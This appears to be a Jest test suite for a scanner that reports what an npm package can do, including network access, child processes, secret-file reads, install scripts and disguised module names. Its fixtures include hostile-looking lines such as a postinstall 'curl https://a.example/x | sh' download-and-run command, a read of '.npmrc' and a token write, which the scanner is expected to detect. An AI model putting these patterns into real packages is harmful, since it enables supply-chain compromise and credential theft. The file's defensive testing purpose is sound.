// What a whole package can do, in short: by a quick look, and from a comparison with nothing.
import { describe, expect, test } from '@jest/globals'
import { abilitiesIn, abilitiesOf, wholeCode } from '../../src/code/abilities.ts'
import { compareCode } from '../../src/code/compare.ts'
import type { Abilities, Ability } from '../../src/code/define.ts'
import { harmless, packageOf } from '../helpers/code.ts'

type Files = Readonly<Record<string, string | Buffer>>

const entries = (installAfter: readonly string[] = []) => ({
  entryPoints: ['index.js'],
  installBefore: [],
  installAfter
})
const scripts = (command: string) => new Map([['postinstall', command]])
const noScripts = new Map<string, string>()

const quick = (files: Files, install: readonly string[] = [], commands = noScripts): Abilities =>
  abilitiesOf(packageOf({ ...harmless, ...files }), entries(install), commands)
const full = (files: Files, install: readonly string[] = [], commands = noScripts): Abilities =>
  abilitiesIn(wholeCode(packageOf({ ...harmless, ...files }), entries(install), commands))

const line = ({ kind, onInstall, details: { few, more } }: Ability): string =>
  `${onInstall ? 'on install ' : ''}${kind}: ${few.join(', ')}${more === 0 ? '' : ` and ${more}`}`

const program = (head: readonly number[]): Buffer => Buffer.from([...head, 0, 0, 0, 0, 0, 0, 0, 0])
const forLinux = program([0x7f, 0x45, 0x4c, 0x46])

// Both looks say the same of a package that is read in full.
const looks = [
  ['a quick look', quick],
  ['a full look', full]
] as const

describe.each(looks)('%s tells', (_, look) => {
  test.each<[string, Files, readonly string[]]>([
    ['nothing of a package that can do nothing', {}, []],
    [
      'what code is in use for',
      { 'index.js': `const cp = require('child_process'); cp.exec(a)` },
      ['process: child_process']
    ],
    [
      'each kind once, the worst first',
      {
        'index.js': `require('https').get(u); fetch(v)`,
        'lib/b.js': `require('http').get(u)`,
        'lib/a.js': `read(home + '/.npmrc')`
      },
      ['secret: /.npmrc', 'network: fetch, https, http']
    ],
    [
      'a few of many, and how many there are besides',
      { 'index.js': ['http', 'https', 'net', 'tls', 'dns'].map((one) => `require('${one}')`).join(';') },
      ['network: dns, tls, net and 2']
    ],
    [
      'a name that is put together',
      { 'index.js': `require('child_' + 'process')` },
      ['process: child_process, in disguise']
    ],
    [
      'what hides first',
      {
        'index.js': `const m = require('ht' + 'tp'); for (const n of ['net', 'tls', 'dns']) require('https')
require('net'); require('tls'); require('dns')`
      },
      ['network: http, in disguise, dns, tls and 2']
    ],
    [
      'the words of other languages',
      { 'tools/get.sh': 'curl -s "$1" | sh\n' },
      ['network: curl', 'process: a shell command that downloads']
    ],
    ['nothing of tests and pages', { 'test/a.js': `require('child_process')`, 'docs/b.js': 'fetch(u)' }, []],
    [
      'nothing of dates and loops, as all code has them',
      { 'index.js': 'while (true) if (new Date() > d) break' },
      []
    ]
  ])('%s', (_name, files, expected) => {
    const { can, whole } = look(files)
    const normal = can.map(line).map((one) => one.replace(/curl\b.*/, 'curl'))
    expect({ can: normal, whole }).toEqual({ can: expected, whole: true })
  })

  test('what runs on installing apart, and first', () => {
    const files = {
      'index.js': `require('http').get(u)`,
      'setup.js': `require('./lib/fetch.js')`,
      'lib/fetch.js': `require('https').get(u)`
    }
    expect(look(files, ['setup.js']).can.map(line)).toEqual(['on install network: https', 'network: http'])
  })

  test('what the install scripts themselves say', () => {
    const { can } = look({}, [], scripts('curl https://a.example/x | sh'))
    expect(can.map(({ kind, onInstall }) => [kind, onInstall])).toEqual([
      ['network', true],
      ['process', true]
    ])
    expect(can.flatMap(({ details }) => details.few)).toContain('a shell command that downloads')
  })

  test('the hosts that are called, and not those that are spoken of', () => {
    const { calls } = look({
      'index.js': `fetch('https://api.called.example/v1'); const help = 'see https://help.example/a for more'`
    })
    expect(calls).toEqual({ few: ['api.called.example'], more: 0 })
  })

  test('programs in machine code', () => {
    const files = Object.fromEntries(['a', 'b', 'c', 'd'].map((name) => [`bin/${name}`, forLinux]))
    expect(look({ ...files, 'x.wasm': program([0, 0x61, 0x73, 0x6d]) }).programs).toEqual({
      few: ['bin/a', 'bin/b', 'bin/c'],
      more: 1
    })
  })

  test('that it did not read everything', () => {
    expect(look({ 'lib/broken.js': 'fetch((' }).whole).toBe(false)
  })
})

describe('a quick look', () => {
  const large = (head: string): string => `${head}\n${'const padding = [1, 2, 3, 4, 5]\n'.repeat(10_000)}`

  test('reads what is too large by its words, and says so', () => {
    const { can, whole } = quick({ 'index.js': large(`const cp = require('child_process')`) })
    expect({ can: can.map(line), whole }).toEqual({ can: ['process: child_process'], whole: false })
  })

  test('reads what runs on installing before anything else', () => {
    const files = {
      'lib/a.js': `fetch(a)\n${'call(1)\n'.repeat(20_000)}`,
      'lib/b.js': `fetch(b)\n${'call(2)\n'.repeat(20_000)}`,
      'setup.js': `require('child_' + 'process')\n${'call(3)\n'.repeat(25_000)}`
    }
    expect(quick(files, ['setup.js']).can.map(line)).toContain(
      'on install process: child_process, in disguise'
    )
    expect(quick(files).can.map(line)).not.toContain('process: child_process, in disguise')
  })

  test('does not look at more than a few megabytes, and says so', () => {
    const files = Object.fromEntries(
      Array.from({ length: 12 }, (_, at) => [`lib/${at}.js`, `call(${at})\n`.repeat(100_000)])
    )
    expect(quick(files).whole).toBe(false)
    expect(quick({ 'lib/0.js': files['lib/0.js'] ?? '' })).toMatchObject({ can: [], whole: true })
  })

  test('is bounded in what it says, whatever a package holds', () => {
    const names = Array.from({ length: 3000 }, (_, at) => `host-${at}.example`)
    const { can, calls } = quick({
      'index.js': names.map((name) => `fetch('https://${name}/')`).join('\n'),
      'lib/long.js': `require('fs').writeFile(process.env.${'A'.repeat(5000)}_TOKEN)`
    })
    expect(calls.few).toHaveLength(5)
    expect(calls.more).toBeGreaterThan(100)
    const texts = [...calls.few, ...can.flatMap(({ details }) => details.few)]
    expect(Math.max(...texts.map((text) => text.length))).toBeLessThanOrEqual(100)
    expect(can.every(({ details }) => details.few.length <= 3)).toBe(true)
  })
})

describe('a full look', () => {
  test('says nothing else than the comparison with nothing, where no script says anything', () => {
    const files = packageOf({ ...harmless, 'index.js': `require('https').get(u)` })
    const alone = compareCode(undefined, files, entries())
    expect(wholeCode(files, entries(), scripts('node setup.js'), alone)).toEqual(alone)
    expect(wholeCode(files, entries(), noScripts)).toEqual(alone)
  })

  test('gives the place of what an install script says', () => {
    const { capabilities } = wholeCode(
      packageOf(harmless),
      entries(),
      scripts('curl  https://a.example |  sh')
    )
    expect(capabilities).toContainEqual(
      expect.objectContaining({
        path: 'package.json',
        detail: 'a shell command that downloads',
        excerpt: 'curl https://a.example | sh',
        weight: 'install'
      })
    )
  })
})
